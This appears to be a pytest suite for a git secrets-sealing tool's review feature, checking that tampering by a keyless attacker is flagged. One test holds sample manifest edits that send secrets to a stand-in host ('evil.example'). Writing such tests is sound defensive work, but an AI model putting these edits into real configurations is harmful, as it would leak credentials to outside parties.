"""What a review was silent about once, with its neighbours: each is told now, and none passes `--fail-on error,warning`.

The attacker can commit and holds no key. `told` is what a reviewer is shown, `stops` what `--fail-on` stops for.
"""

import base64
import re
from collections.abc import Callable, Sequence

import pytest

from gitseal.audit.check.check import check
from gitseal.audit.review.range import ReviewOptions
from gitseal.audit.review.review import review
from gitseal.document.token import Token
from gitseal.git.repository import Repository
from gitseal.report.findings import ERROR, WARNING
from gitseal.review.model import Review
from tests.attacks.conftest import Team
from tests.attacks.world import Clone, own_key, put_key, write

FAST = ReviewOptions(verify=False, scan=False)
SECRETS = ".secrets"


def of(place: Clone, span: str = "origin/main..HEAD", *, opens: bool = False) -> Review:
    return review(Repository(place.top), span, place.keyring if opens else None, FAST)


def stops(found: Review) -> dict[str, str]:
    return {each.rule: each.severity for each in found.risks if each.severity in {ERROR, WARNING}}


def commit(place: Clone, path: str, text: str) -> None:
    (place.top / path).parent.mkdir(parents=True, exist_ok=True)
    (place.top / path).write_text(text)
    place.commit()


def edit(place: Clone, path: str, change: Callable[[str], str]) -> None:
    before = (place.top / path).read_text()
    after = change(before)
    assert after != before
    commit(place, path, after)


# --- stanzas and proofs: 17 and 18


def junk(match: re.Match[str]) -> str:
    data = bytearray(base64.b64decode(match[2]))
    data[-1] ^= 1
    return f"STANZA[v1,{match[1]},{base64.b64encode(data).decode()}]"


@pytest.mark.parametrize("count", [0, 1])
def test_stanzas_that_are_replaced_by_junk(team: Team, count: int) -> None:
    path = f"{SECRETS}/production.yaml"
    edit(team.mallory, path, lambda text: re.sub(r"STANZA\[v1,(k[0-9a-f]+),([^\]]+)\]", junk, text, count=count))
    found = of(team.mallory)
    assert stops(found)["stanza-replaced"] == ERROR
    assert len([each for each in found.risks if each.rule == "stanza-replaced"]) == (count or 3)


def test_check_with_an_identity_tells_of_its_own_stanza(team: Team) -> None:
    path = f"{SECRETS}/production.yaml"
    edit(team.alice, path, lambda text: re.sub(r"STANZA\[v1,(k[0-9a-f]+),([^\]]+)\]", junk, text))
    assert {each.rule for each in check(team.alice.project, (), team.alice.keyring)} == {"damaged"}


def test_a_stanza_that_was_made_for_another_key(team: Team) -> None:
    """It is sound, and alice's identity opens nothing of it: check says so, and not that all is well."""
    text = (team.alice.top / f"{SECRETS}/production.yaml").read_text()
    alice, bob = re.findall(r"        (?:alice|bob):\n          r\w+:\n            (STANZA\S+)\n", text)[:2]
    edit(team.alice, f"{SECRETS}/production.yaml", lambda text: text.replace(alice, bob))
    assert "damaged" in {each.rule for each in check(team.alice.project, (), team.alice.keyring)}
    assert stops(of(team.alice))["stanza-replaced"] == ERROR


def test_random_bytes_as_a_proof_are_a_claim_and_with_an_identity_a_lie(team: Team) -> None:
    old = team.mallory.read("production").header.access["default"].key_id
    claim = Token.of("s", "default", old, b"\x07" * 200)  # as long as a true one
    mine = own_key(team.mallory, "production")
    write(team.mallory, "production", put_key(mine, [team.people["alice"], team.people["bob"]], succeeds=claim))
    team.mallory.commit()
    found = of(team.mallory)
    assert stops(found)["data-key-replaced"] == WARNING
    assert any("claims to have held the old one" in each.message for each in found.risks)
    team.mallory.push("topic")
    team.alice.git("fetch", "--quiet")
    found = of(team.alice, "origin/main..origin/topic", opens=True)
    assert stops(found)["data-key-replaced"] == ERROR
    assert any("did not hold the old one" in each.message for each in found.risks)


def test_a_true_proof_is_believed_with_an_identity(team: Team) -> None:
    team.alice.git("switch", "--quiet", "--create", "topic")
    team.alice.rotate()
    team.alice.commit()
    told = [each.message for each in of(team.alice, opens=True).risks if each.rule == "data-key-replaced"]
    assert told
    assert all("by someone who held the old one" in each for each in told)
    assert all("claims to have" in each.message for each in of(team.alice).risks if each.rule == "data-key-replaced")


def test_a_header_field_that_changes_by_itself(team: Team) -> None:
    edit(
        team.mallory,
        f"{SECRETS}/production.yaml",
        lambda text: text.replace("environment: production", "environment: prod"),
    )
    assert stops(of(team.mallory))["header-changed"] == WARNING


# --- aliases, rules and the manifest (08, 09, 27)


def test_a_file_that_takes_an_alias(team: Team) -> None:
    team.alice.policy("  production:", "  production:\n    aliases: [prod]")
    team.alice.commit()
    team.alice.push()
    team.mallory.pull()
    commit(team.mallory, f"{SECRETS}/prod.yaml", (team.mallory.path("production")).read_text())
    assert stops(of(team.mallory))["alias-moved"] == WARNING


def test_an_alias_that_is_another_environments_now(team: Team) -> None:
    team.alice.policy("  production:", "  production:\n    aliases: [prod]")
    team.alice.commit()
    team.alice.push()
    team.mallory.pull()
    edit(
        team.mallory,
        f"{SECRETS}/policy.yaml",
        lambda text: text.replace("    aliases: [prod]\n", "").replace(
            "  development:", "  development:\n    aliases: [prod]"
        ),
    )
    assert stops(of(team.mallory))["alias-moved"] == WARNING


def test_a_whole_rule_that_is_taken_away(team: Team) -> None:
    rule = 'rules:\n  - names: ["STRIPE_*"]\n    open: [payers]\n    access: payments\n\n'
    edit(team.mallory, f"{SECRETS}/policy.yaml", lambda text: text.replace(rule, ""))
    found = of(team.mallory)
    assert stops(found)["rule-removed"] == WARNING
    assert any('which "alice", "bob" may open too' in each.message for each in found.risks)


MANIFEST = """\
version: 1
secrets: {}
services:
  web:
    include: [DB_URL]
    env:
      URL: https://app:${secret:STRIPE_KEY}@db.internal/
      MODE: fast
"""


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        ("db.internal", "db.internal.evil.example", "text-around-secret"),
        ("https://app", "http://app", "text-around-secret"),
        ("${secret:STRIPE_KEY}", "${secret:STRIPE_KEY|urlencode}", "text-around-secret"),
        ("MODE: fast", "MODE: fast\n      SENTRY: https://evil.example/${secret:DB_URL}", "text-around-secret"),
        ("MODE: fast", "MODE: fast\n      DB_URL: mallorys-own", "secret-shadowed"),
        ("MODE: fast", 'MODE: fast\n      DB_URL: "${secret:STRIPE_KEY}"', "secret-shadowed"),
        ("services:\n", "services:\n  x: {env: {U: 'https://evil.example/${secret:DB_URL}'}}\n", "text-around-secret"),
    ],
)
def test_a_manifest_that_sends_a_secret_elsewhere(team: Team, old: str, new: str, rule: str) -> None:
    commit(team.alice, f"{SECRETS}/manifest.yaml", MANIFEST)
    team.alice.push()
    team.mallory.pull()
    edit(team.mallory, f"{SECRETS}/manifest.yaml", lambda text: text.replace(old, new))
    found = of(team.mallory)
    assert stops(found)[rule] == WARNING
    assert "mallorys-own" not in repr(found)


# --- files that nobody parses (25, 29)


def test_attributes_that_a_merge_takes_back(team: Team) -> None:
    start = (team.alice.top / ".gitattributes").read_text()
    commit(team.alice, ".gitattributes", start + "*.pem -diff\n")
    team.alice.push()
    team.mallory.commit("side")
    team.mallory.git("fetch", "--quiet")
    team.mallory.git("merge", "--quiet", "--no-commit", "--no-ff", "origin/main")
    commit(team.mallory, ".gitattributes", start)
    assert stops(of(team.mallory))["attributes-changed"] == WARNING


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        (f"{SECRETS}/notes.txt", "foreign-file"),
        (f"{SECRETS}/sub/notes.txt", "foreign-file"),
        (f"{SECRETS}/schema/policy.json", "schema-changed"),
        (f"{SECRETS}/schema/other.json", "schema-changed"),
        (f"{SECRETS}/schema/deep/er.json", "schema-changed"),
        ("docs/.gitattributes", "attributes-changed"),
    ],
)
def test_files_beside_that_come_or_change(team: Team, path: str, rule: str) -> None:
    commit(team.mallory, path, "one\n")
    assert stops(of(team.mallory))[rule] == WARNING
    commit(team.mallory, path, "two\n")
    assert stops(of(team.mallory, "HEAD~1..HEAD"))[rule] == WARNING
    (team.mallory.top / path).unlink()
    team.mallory.commit()
    found = of(team.mallory, "HEAD~1..HEAD")
    assert any(path in each.text for each in found.statements)


def test_a_schema_of_gitseals_own_is_no_risk(team: Team) -> None:
    own = (team.mallory.top / f"{SECRETS}/schema/policy.json").read_text()
    commit(team.mallory, f"{SECRETS}/schema/policy.json", "{}")
    commit(team.mallory, f"{SECRETS}/schema/policy.json", own)
    found = of(team.mallory, "HEAD~1..HEAD")
    assert (stops(found), found.reformatted > 0) == ({}, True)


@pytest.mark.parametrize(
    ("path", "target"),
    [("config", ".secrets"), ("app/config", "../.secrets/production.yaml"), ("x", "./.SECRETS/policy.yaml")],
)
def test_links_that_lead_in(team: Team, path: str, target: str) -> None:
    (team.mallory.top / path).parent.mkdir(exist_ok=True)
    (team.mallory.top / path).symlink_to(target)
    team.mallory.commit()
    assert stops(of(team.mallory))["link-to-secrets"] == WARNING
    (team.mallory.top / path).unlink()
    team.mallory.commit()
    assert stops(of(team.mallory, "HEAD~1..HEAD")) == {}


@pytest.mark.parametrize("name", [".secrets", ".Secrets"])
def test_submodules_and_links_that_are_called_so(team: Team, name: str) -> None:
    commit_id = team.mallory.git("rev-parse", "HEAD").strip()
    team.mallory.git("update-index", "--add", "--cacheinfo", f"160000,{commit_id},vendor/{name}")
    (team.mallory.top / ".gitmodules").write_text(f'[submodule "v"]\n\tpath = vendor/{name}\n\turl = ../v\n')
    team.mallory.git("add", ".gitmodules")
    team.mallory.git("commit", "--quiet", "--message=module")
    found = stops(of(team.mallory))
    assert (found["nested-secrets"], found["modules-changed"]) == (ERROR, WARNING)
    team.mallory.git("rm", "--quiet", "--cached", f"vendor/{name}")
    (team.mallory.top / "vendor").mkdir(exist_ok=True)
    (team.mallory.top / "vendor" / name).symlink_to("..")
    team.mallory.git("add", f"vendor/{name}")
    team.mallory.git("commit", "--quiet", "--message=link")
    assert stops(of(team.mallory, "HEAD~1..HEAD"))["nested-secrets"] == ERROR


@pytest.mark.parametrize("quoted", ['.sec"ret"s', ".sec\\\nrets", ".SECRETS"])
def test_a_place_of_a_submodule_that_is_spelt_oddly(team: Team, quoted: str) -> None:
    commit(team.mallory, ".gitmodules", f'[submodule "v"]\n\tpath = {quoted}\n\turl = ../v\n')
    assert stops(of(team.mallory))["modules-changed"] == WARNING


def test_a_submodule_elsewhere_is_told_and_no_risk(team: Team) -> None:
    commit(team.mallory, ".gitmodules", '[submodule "v"]\n\tpath = vendor/v\n\turl = ../v\n')
    found = of(team.mallory)
    assert stops(found) == {}
    assert [each.text for each in found.statements] == [
        '".gitmodules" changed, in submodules that have nothing to do with .secrets'
    ]


def test_modes(team: Team) -> None:
    team.mallory.git("update-index", "--chmod=+x", f"{SECRETS}/production.yaml")
    team.mallory.git("commit", "--quiet", "--message=mode")
    assert stops(of(team.mallory))["mode-changed"] == WARNING


def test_a_sealed_file_that_was_a_link_for_a_commit(team: Team) -> None:
    path = team.mallory.path("production")
    data = path.read_bytes()
    path.unlink()
    path.symlink_to("../elsewhere")
    team.mallory.commit()
    path.unlink()
    path.write_bytes(data)
    team.mallory.commit()
    assert stops(of(team.mallory))["no-regular-file"] == ERROR


# --- what came and went, and evil merges


def passed_through(place: Clone, path: str, changes: Sequence[Callable[[str], str]]) -> Review:
    before = (place.top / path).read_text()
    for change in changes:
        edit(place, path, change)
    commit(place, path, before)
    return of(place)


def test_a_plain_rule_that_came_and_went(team: Team) -> None:
    found = passed_through(
        team.mallory,
        f"{SECRETS}/policy.yaml",
        [lambda text: text.replace("rules:", 'rules:\n  - {names: ["*"], plain: true}')],
    )
    assert stops(found)["passing-change"] == WARNING
    assert all(each.text.endswith("and a later commit took that back") for each in found.statements)


def test_a_member_who_came_and_went_in_the_policy(team: Team) -> None:
    found = passed_through(
        team.mallory, f"{SECRETS}/policy.yaml", [lambda text: text.replace("payers: [carol]", "payers: [carol, bob]")]
    )
    assert stops(found)["passing-change"] == WARNING


def test_a_grant_that_the_next_commit_takes_back_leaves_the_key(team: Team) -> None:
    path = f"{SECRETS}/production.yaml"
    team.alice.add(team.people["dave"], "team")
    team.alice.rekey()
    granted = (team.alice.top / path).read_text()
    team.alice.git("checkout", "--quiet", "--", ".")
    found = passed_through(team.mallory, path, [lambda _text: granted])
    assert stops(found)["passing-access"] == ERROR


def test_a_value_that_stood_plain_for_a_commit(team: Team) -> None:
    path = f"{SECRETS}/production.yaml"
    found = passed_through(
        team.mallory, path, [lambda text: re.sub(r"DB_URL:\n  ENC\S+", "DB_URL: postgres://open", text)]
    )
    assert stops(found)["unsealed"] == WARNING


def test_a_merge_that_brings_what_neither_side_has(team: Team) -> None:
    commit(team.alice, "README", "hello\n")
    team.alice.push()
    team.mallory.commit("side")
    team.mallory.git("fetch", "--quiet")
    team.mallory.git("merge", "--quiet", "--no-commit", "--no-ff", "origin/main")
    edit(team.mallory, f"{SECRETS}/policy.yaml", lambda text: text.replace("payers: [carol]", "payers: [carol, bob]"))
    found = of(team.mallory)
    assert stops(found)["group-widened"] == WARNING


def _linked(team: Team) -> None:
    (team.alice.top / "x").symlink_to(".secrets")


def _as_submodule(team: Team) -> None:
    (team.alice.top / ".gitmodules").write_text(
        '[submodule "s"]\n\tpath = .secrets\n\turl = https://example.com/s.git\n'
    )


@pytest.mark.parametrize(("steer", "path"), [(_linked, "x"), (_as_submodule, ".gitmodules")])
def test_a_merge_that_brings_back_what_the_base_took_out(team: Team, steer: Callable[[Team], None], path: str) -> None:
    steer(team)
    team.alice.commit("start")
    team.alice.git("switch", "--quiet", "--create", "topic")
    commit(team.alice, "README", "topic\n")
    team.alice.git("switch", "--quiet", "-")
    team.alice.git("rm", "--quiet", path)
    team.alice.commit("out")
    team.alice.push()
    team.alice.git("switch", "--quiet", "topic")
    team.alice.git("merge", "--quiet", "--strategy=ours", "--message=back", "main")
    assert WARNING in stops(of(team.alice)).values()


def test_a_merge_that_drops_what_a_side_of_the_range_did(team: Team) -> None:
    """Both sides are of the range: at both ends the value is the same, and the merge gave up one commit's work."""
    team.mallory.commit("start")
    team.mallory.git("switch", "--quiet", "--create", "side")
    path = f"{SECRETS}/allow.yaml"
    commit(team.mallory, path, "version: 1\nallowed: []\n")
    team.mallory.git("switch", "--quiet", "-")
    team.mallory.commit("other")
    team.mallory.git("merge", "--quiet", "--strategy=ours", "--message=dropped", "side")
    found = of(team.mallory)
    assert found.statements or found.risks


def test_a_repeated_rekey_is_no_alarm(team: Team) -> None:
    """The everyday way of a person who leaves: no rule but those about the new key, though a commit between had the old one."""
    team.alice.git("switch", "--quiet", "--create", "topic")
    team.alice.policy("  team: [alice, bob]", "  team: [alice]")
    team.alice.commit()
    team.alice.rekey()
    team.alice.commit()
    team.alice.set("production", "DB_URL", "postgres://new")
    team.alice.commit()
    assert set(stops(of(team.alice))) <= {"data-key-replaced"}


# --- what is not committed yet


def uncommitted(place: Clone) -> Review:
    return review(Repository(place.top), "HEAD", None, FAST)


def test_the_working_tree_is_told_as_a_commit_is(team: Team) -> None:
    path = team.mallory.path("production")
    path.write_text(re.sub(r"STANZA\[v1,(k[0-9a-f]+),([^\]]+)\]", junk, path.read_text()))
    (team.mallory.top / SECRETS / "notes.txt").write_text("x\n")
    (team.mallory.top / "app").mkdir()
    (team.mallory.top / "app" / "link").symlink_to("../.secrets")
    (team.mallory.top / ".gitattributes").write_text("*.yaml -diff\n")
    found = uncommitted(team.mallory)
    assert stops(found).keys() >= {"stanza-replaced", "foreign-file", "link-to-secrets", "attributes-changed"}
    assert {each.commit for each in found.risks} == {""}


def test_a_working_tree_that_only_looks_changed_has_no_entries(team: Team) -> None:
    path = team.mallory.path("production")
    path.write_bytes(path.read_bytes())
    assert uncommitted(team.mallory).is_empty


def test_comments_and_quotes_are_counted_and_no_risk(team: Team) -> None:
    path = team.mallory.project.policy_path
    path.write_text("# read this\n" + path.read_text().replace("[payers]", '["payers"]'))
    found = uncommitted(team.mallory)
    assert (stops(found), found.statements, found.reformatted) == ({}, (), 2)
